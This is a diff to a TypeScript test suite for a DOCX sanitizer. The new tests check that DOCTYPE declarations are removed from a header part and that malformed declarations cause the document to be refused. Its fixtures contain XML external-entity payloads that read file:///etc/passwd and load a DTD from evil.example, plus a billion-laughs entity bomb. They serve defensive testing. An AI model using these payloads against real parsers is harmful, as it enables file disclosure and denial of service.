@@ -181,30 +181,60 @@ describe('content that relationships point at', () => {
     expect(document).toContain('<mc:AlternateContent><mc:Fallback><w:t>flat</w:t></mc:Fallback></mc:AlternateContent>');
   });
 
+  test('drops where a shape came from, and keeps where a click on it leads', async () => {
+    const shape = '<v:shape id="s" href="https://kept.example/" o:href="https://gone.example/a.png"/>';
+    const document = await documentOf({ body: `<w:p><w:r><w:pict>${shape}</w:pict></w:r></w:p>` });
+    expect(document).toContain('href="https://kept.example/"');
+    expect(document).not.toContain('gone.example');
+  });
+
   test('drops markup of a vocabulary that Office does not have', async () => {
     const document = await documentOf({ body: '<e:run xmlns:e="http://evil.example/ns"><w:p/></e:run>' });
     expect(document).not.toContain('e:run');
   });
 });
 
+describe('a document type declaration', () => {
+  const withHeader = (prolog: string, text: string) =>
+    buildDocx({
+      parts: [
+        {
+          name: 'word/header1.xml',
+          content: `${prolog}<w:hdr xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:p><w:r><w:t>${text}</w:t></w:r></w:p></w:hdr>`,
+          contentType: 'application/vnd.openxmlformats-officedocument.wordprocessingml.header+xml',
+        },
+      ],
+      links: [{ id: 'rId5', type: `${OD}header`, target: 'header1.xml' }],
+    });
+  const bomb = Array.from({ length: 20 }, (_, index) => `<!ENTITY a${index + 1} "${`&a${index};`.repeat(10)}">`).join(
+    '',
+  );
+
+  test.each([
+    ['names a file', '<!DOCTYPE a SYSTEM "file:///etc/passwd">', 'KEEP'],
+    ['asks for a file', '<?xml version="1.0"?>\n<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]>', 'KEEP &b;'],
+    ['loads more declarations', '<!DOCTYPE a [<!ENTITY % b SYSTEM "http://evil.example/x.dtd"> %b;]>', 'KEEP'],
+    ['repeats a text a billion times', `<!DOCTYPE a [<!ENTITY a0 "ha">${bomb}]>`, 'KEEP &a20;'],
+    ['hides its end', `<!DOCTYPE a [<!ENTITY b ']><x>'><!-- ]> " --><?c ]> ?>]>`, 'KEEP &b;'],
+  ])('that %s is gone, with what it declares', async (_what, prolog, text) => {
+    const { parts, kinds } = await run(await withHeader(prolog, text));
+    expect(parts.get('word/header1.xml')).toMatch(/<w:t>KEEP ?<\/w:t>/);
+    expect(parts.get('word/header1.xml')).not.toMatch(/DOCTYPE|ENTITY|evil|passwd|<x>/);
+    expect(kinds).toContain('document type declaration');
+  });
+
+  test.each([
+    ['that does not end', '<!DOCTYPE a [<!ENTITY b "c">', ''],
+    ['after another', '<!DOCTYPE a><!DOCTYPE b>', ''],
+    ['behind which an entity is used that it does not declare', '<!DOCTYPE a>', '&c;'],
+  ])('%s refuses the document', async (_what, prolog, text) => {
+    expect(await code(await withHeader(prolog, text))).toBe('unreadable');
+  });
+});
+
 describe('a file that is refused', () => {
   test.each([
     ['two parts of one name in another case', async () => buildWith([['WORD/DOCUMENT.XML', 'x']]), 'unreadable'],
-    [
-      'a document type declaration',
-      async () =>
-        buildDocx({
-          parts: [
-            {
-              name: 'word/header1.xml',
-              content: '<!DOCTYPE a [<!ENTITY b "c">]><w:hdr xmlns:w="x">&b;</w:hdr>',
-              contentType: 'application/vnd.openxmlformats-officedocument.wordprocessingml.header+xml',
-            },
-          ],
-          links: [{ id: 'rId5', type: `${OD}header`, target: 'header1.xml' }],
-        }),
-      'unreadable',
-    ],
     ['no archive at all', async () => Buffer.from('PK nothing'), 'unreadable'],
     [
       'an add-in',
